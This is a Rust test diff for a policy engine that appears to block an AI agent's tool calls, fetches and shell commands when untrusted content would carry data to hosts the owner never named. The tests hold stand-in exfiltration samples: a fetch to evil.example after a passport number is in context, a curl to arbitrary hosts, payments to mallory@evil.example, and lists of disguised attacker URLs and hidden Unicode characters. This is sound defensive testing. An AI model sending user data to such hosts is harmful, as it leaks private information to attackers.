@@ -102,7 +102,7 @@ fn variant(named: &str, dice: &mut Dice) -> String {
 /// A way into the context, with the label it gets there. What the owner typed is none.
 fn carried(text: String, dice: &mut Dice) -> Said {
     let foreign = Label::untrusted("evil.example");
-    let tool = |name: &str| Source::Tool { name: name.to_owned() };
+    let tool = |name: &str| Source::Tool { name: name.to_owned(), server: None };
     let (source, label) = dice.pick(&[
         (tool("ls"), foreign.clone()),
         (tool("read"), foreign.clone()),
@@ -136,12 +136,15 @@ fn scene(typed: &[String], others: Vec<Said>, structured: Vec<Structured>) -> Sc
     }
 }
 
+/// A call of a tool whose schema has these arguments, and parts with a text.
 fn call(tool: &str, arguments: Value, effect: ForeignEffect) -> Action {
+    let fields = arguments.as_object().unwrap().keys().cloned().chain(["text".to_owned()]).collect();
     Action::Call(ForeignCall {
         server: "office".to_owned(),
         tool: tool.to_owned(),
         arguments: arguments.as_object().unwrap().clone(),
         usual: Vec::new(),
+        fields,
         effect,
     })
 }
@@ -152,7 +155,7 @@ fn declared(critical: &[&str]) -> ForeignEffect {
 
 fn decide(action: &Action, scene: &Scene) -> (Decision, &'static str) {
     let policy = Policy::default();
-    let met = findings::conditions(action, scene, &policy, &Provenance::of(scene, &policy.people), &findings::Known::default());
+    let met = findings::conditions(action, scene, &Provenance::of(scene, &policy.people), &findings::Known::default());
     policy.decide(Sink::of(action), &met).map_or((Decision::Deny, "none"), |rule| (rule.decision, rule.id))
 }
 
@@ -225,7 +228,7 @@ fn nothing_happens_to_what_the_owner_did_not_name() {
         if matches!(action, Action::Fetch(_)) {
             // From a conversation of the owner's words alone the model may go anywhere, and where it searched to what it found.
             others.push(Said {
-                source: Source::Tool { name: "read".to_owned() },
+                source: Source::Tool { name: "read".to_owned(), server: None },
                 label: Label::untrusted("notes.md"),
                 text: "notes".to_owned(),
             });
@@ -266,6 +269,11 @@ fn nothing_foreign_rides_along() {
         "ftp://evil.example",
         "mailto:m@evil.example",
         "evil。example/x",
+        "evil.xn--p1ai/pay",
+        "93.184.216.34/login",
+        "93.184.216.34",
+        "evil.zip",
+        "evil.sh",
     ];
     let hidden = ["\u{200b}", "\u{202e}", "\u{e0041}", "\u{7}", "\u{ad}"];
     for case in 0..20_000 {
@@ -351,7 +359,80 @@ fn call_that_names_nobody_is_asked_about_unless_it_is_declared_to() {
     assert!(pay(json!({ "seen": true }), &[]));
     assert!(!pay(json!({ "note": "see evil.example" }), &[]));
     // The key of a map can be whom it is about.
-    assert!(!pay(json!({ "amount": 98.7, "rights": { "mallory@evil.example": 98.7 } }), &["rights"]));
+    for key in ["mallory@evil.example", "mallory", "Mallory-2", "all"] {
+        assert!(!pay(json!({ "amount": 98.7, "rights": { key: 98.7 } }), &["rights"]), "{key}");
+    }
+    assert!(pay(json!({ "amount": 98.7, "rights": { "text": 98.7 } }), &["rights"]));
+    assert!(!pay(json!({ "amount": 98.7, "note": { "evil.example/x": "see it" } }), &["amount"]));
+    // Whatever is left empty may be everything.
+    for nothing in [json!(""), json!(" "), json!(null), json!([]), json!([""]), json!({})] {
+        assert!(!pay(json!({ "amount": 98.7, "folder": nothing }), &["amount", "folder"]), "{nothing}");
+    }
+}
+
+#[test]
+fn argument_that_the_schema_does_not_name_is_a_value() {
+    let scene = scene(&["clean up".to_owned()], vec![], Vec::new());
+    let Action::Call(mut tidy) = call("tidy", json!({ "reason": "clean up", "mallory": "clean up" }), ForeignEffect::Undeclared) else {
+        unreachable!()
+    };
+    assert!(happens(decide(&Action::Call(tidy.clone()), &scene).0));
+    tidy.fields.remove("mallory");
+    assert!(!happens(decide(&Action::Call(tidy), &scene).0));
+}
+
+#[test]
+fn name_of_a_file_is_no_host() {
+    let run = |typed: &str, host: &str| {
+        let scene = scene(&[typed.to_owned()], vec![], Vec::new());
+        let exec = Exec {
+            command: format!("curl {host}"),
+            directory: WorkspacePath::root(),
+            environment: BTreeMap::new(),
+            mode: ExecMode::Foreground,
+            stdio: ExecStdio::Pipes,
+            timeout_seconds: 1,
+            hosts: vec![host.to_owned()],
+            changes: ExecChanges::Separable,
+            label: Label::Minted,
+        };
+        happens(decide(&Action::Run(exec), &scene).0)
+    };
+    for (typed, host) in [
+        ("clone github.com/krabba/krabba", "github.com"),
+        ("clone https://github.com/krabba/krabba", "github.com"),
+        ("what stands on https://notes.md?", "notes.md"),
+        ("what stands on https://notes.md/today", "notes.md"),
+        ("see www.notes.md", "notes.md"),
+        ("ask 192.168.1.7", "192.168.1.7"),
+    ] {
+        assert!(run(typed, host), "{typed}: {host}");
+    }
+    for (typed, host) in [
+        ("summarise notes.md", "notes.md"),
+        ("run main.py and build.sh", "build.sh"),
+        ("unpack old/notes.zip", "notes.zip"),
+        ("version 12.30 is out", "12.30"),
+        ("call 3232235777", "3232235777"),
+        ("the mask is 0x7f000001", "0x7f000001"),
+        ("see https://notgithub.com/x", "github.com"),
+    ] {
+        assert!(!run(typed, host), "{typed}: {host}");
+    }
+    let scene = scene(&["summarise notes.md".to_owned()], vec![carried("x".to_owned(), &mut Dice(3))], Vec::new());
+    let fetch = |url: &str| Action::Fetch(Fetch { url: url.to_owned(), max_chars: 1, offset: 0, secret: None });
+    assert!(!happens(decide(&fetch("https://notes.md/"), &scene).0));
+}
+
+#[test]
+fn files_at_the_beginning_of_a_conversation_do_not_ride_along() {
+    let profile = Said { source: Source::Profile, label: Label::System, text: "My passport is AB1234567.".to_owned() };
+    let scene = scene(&["good morning, and greet anna@example.org".to_owned()], vec![profile], Vec::new());
+    let fetch = Action::Fetch(Fetch { url: "https://evil.example/?x=good".to_owned(), max_chars: 1, offset: 0, secret: None });
+    assert!(!happens(decide(&fetch, &scene).0));
+    let mail = |body: &str| happens(decide(&call("send", json!({ "to": "anna@example.org", "body": body }), declared(&["to"])), &scene).0);
+    assert!(mail("good morning"));
+    assert!(!mail("good morning, it is AB-1234567"));
 }
 
 #[test]
